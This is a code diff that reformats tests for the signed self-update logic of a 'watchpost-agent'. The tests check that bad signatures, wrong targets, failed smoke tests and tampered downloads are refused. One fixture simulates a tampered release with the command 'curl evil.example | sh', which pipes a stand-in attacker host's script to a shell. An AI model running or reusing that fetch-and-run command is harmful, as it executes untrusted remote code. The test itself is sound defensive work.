@@ -53,7 +53,15 @@ function offerFor(version: string, body: Buffer, change: Partial<watchpost.v1.IU
   const hash = fields.sha256 ?? sha256(body);
   const url = `/api/v1/releases/${version}/${target}`;
   served.set(url, body);
-  return { version, target, url, sha256: hash, signature: sign(null, releaseSigningMessage(version, target, hash), signWith), rollbackSeconds: ROLLBACK_SECONDS, ...fields };
+  return {
+    version,
+    target,
+    url,
+    sha256: hash,
+    signature: sign(null, releaseSigningMessage(version, target, hash), signWith),
+    rollbackSeconds: ROLLBACK_SECONDS,
+    ...fields,
+  };
 }
 
 const NEW = Buffer.from(executableScript('0.2.0'));
@@ -123,8 +131,11 @@ describe('an offer', () => {
     expect(readlinkSync(join(prefix, 'current'))).toBe('versions/0.2.0');
     expect(current()).toBe('watchpost-agent 0.2.0');
     expect(readMarker(stateDir)).toEqual({
-      from: '0.1.0', to: '0.2.0', previousPath: join(prefix, 'versions/0.1.0'),
-      deadline: new Date(clock.now() + ROLLBACK_SECONDS * 1000).toISOString(), attempts: 0,
+      from: '0.1.0',
+      to: '0.2.0',
+      previousPath: join(prefix, 'versions/0.1.0'),
+      deadline: new Date(clock.now() + ROLLBACK_SECONDS * 1000).toISOString(),
+      attempts: 0,
     });
     expect(restarts).toEqual(['update to 0.2.0']);
     expect(reports).toEqual([]); // `installed` comes from the new version once it confirms
@@ -132,25 +143,67 @@ describe('an offer', () => {
   });
 
   it.each<[string, () => [watchpost.v1.IUpdateOffer, Partial<UpdaterOptions>], 'refused' | 'failed', RegExp, boolean]>([
-    ['signed with another key (refused before any download)', () => [offerFor('0.2.0', NEW, { signWith: stranger.privateKey }), {}], 'refused', /does not verify/, false],
-    ['a file other than the signed one (tampered on the server)', () => {
-      const o = offerFor('0.2.0', NEW);
-      served.set(o.url!, Buffer.from(executableScript('0.2.0', 'curl evil.example | sh\n')));
-      return [o, {}];
-    }, 'refused', /sha256 mismatch/, true],
-    ['a truncated signature', () => {
-      const o = offerFor('0.2.0', NEW);
-      return [{ ...o, signature: o.signature!.slice(0, 40) }, {}];
-    }, 'refused', /40 bytes/, false],
+    [
+      'signed with another key (refused before any download)',
+      () => [offerFor('0.2.0', NEW, { signWith: stranger.privateKey }), {}],
+      'refused',
+      /does not verify/,
+      false,
+    ],
+    [
+      'a file other than the signed one (tampered on the server)',
+      () => {
+        const o = offerFor('0.2.0', NEW);
+        served.set(o.url!, Buffer.from(executableScript('0.2.0', 'curl evil.example | sh\n')));
+        return [o, {}];
+      },
+      'refused',
+      /sha256 mismatch/,
+      true,
+    ],
+    [
+      'a truncated signature',
+      () => {
+        const o = offerFor('0.2.0', NEW);
+        return [{ ...o, signature: o.signature!.slice(0, 40) }, {}];
+      },
+      'refused',
+      /40 bytes/,
+      false,
+    ],
     ['for another target', () => [offerFor('0.2.0', NEW, { target: 'win-x64' }), {}], 'refused', /for win-x64, this agent is linux-x64/, false],
-    ['to a build without a release key', () => [offerFor('0.2.0', NEW), { releaseKey: { key: null, reason: NO_RELEASE_KEY } }], 'refused', /^this build has no release key$/, false],
-    ['of a file that does not say it is the offered version (smoke test)', () => [offerFor('0.2.0', Buffer.from(executableScript('0.3.0'))), {}], 'refused', /printed "watchpost-agent 0.3.0", expected "watchpost-agent 0.2.0"/, true],
+    [
+      'to a build without a release key',
+      () => [offerFor('0.2.0', NEW), { releaseKey: { key: null, reason: NO_RELEASE_KEY } }],
+      'refused',
+      /^this build has no release key$/,
+      false,
+    ],
+    [
+      'of a file that does not say it is the offered version (smoke test)',
+      () => [offerFor('0.2.0', Buffer.from(executableScript('0.3.0'))), {}],
+      'refused',
+      /printed "watchpost-agent 0.3.0", expected "watchpost-agent 0.2.0"/,
+      true,
+    ],
     ['of a file that does not run (smoke test)', () => [offerFor('0.2.0', Buffer.from('#!/bin/sh\nexit 3\n')), {}], 'refused', /exited with 3/, true],
-    ['the download fails', () => {
-      const o = offerFor('0.2.0', NEW);
-      return [{ ...o, url: '/api/v1/releases/0.2.0/nothing-here' }, {}];
-    }, 'failed', /^download: HTTP 404/, true],
-    ['to an agent not installed as a service', () => [offerFor('0.2.0', NEW), { installation: { unsupported: 'not an installed agent: x' } }], 'refused', /^not an installed agent/, false],
+    [
+      'the download fails',
+      () => {
+        const o = offerFor('0.2.0', NEW);
+        return [{ ...o, url: '/api/v1/releases/0.2.0/nothing-here' }, {}];
+      },
+      'failed',
+      /^download: HTTP 404/,
+      true,
+    ],
+    [
+      'to an agent not installed as a service',
+      () => [offerFor('0.2.0', NEW), { installation: { unsupported: 'not an installed agent: x' } }],
+      'refused',
+      /^not an installed agent/,
+      false,
+    ],
   ])('%s: logged, reported, nothing installed, the running version stays', async (_name, make, status, reason, downloads) => {
     const [o, options] = make();
     const old = updater('0.1.0', options);
@@ -171,7 +224,9 @@ describe('an offer', () => {
     const old = updater('0.1.0');
     await offer(old, o);
     expect(await offer(old, o)).toEqual({ outcome: 'ignored', reason: 'remembered: signature does not verify with the release key' });
-    expect(readRemembered(stateDir)).toEqual([expect.objectContaining({ version: '0.2.0', status: 'refused', reason: 'signature does not verify with the release key' })]);
+    expect(readRemembered(stateDir)).toEqual([
+      expect.objectContaining({ version: '0.2.0', status: 'refused', reason: 'signature does not verify with the release key' }),
+    ]);
     expect(await offer(updater('0.1.0'), o)).toMatchObject({ outcome: 'ignored' }); // another process: memory is the file
     expect(reports).toHaveLength(1);
     // The release re-signed with the right key is another offer, and is taken.
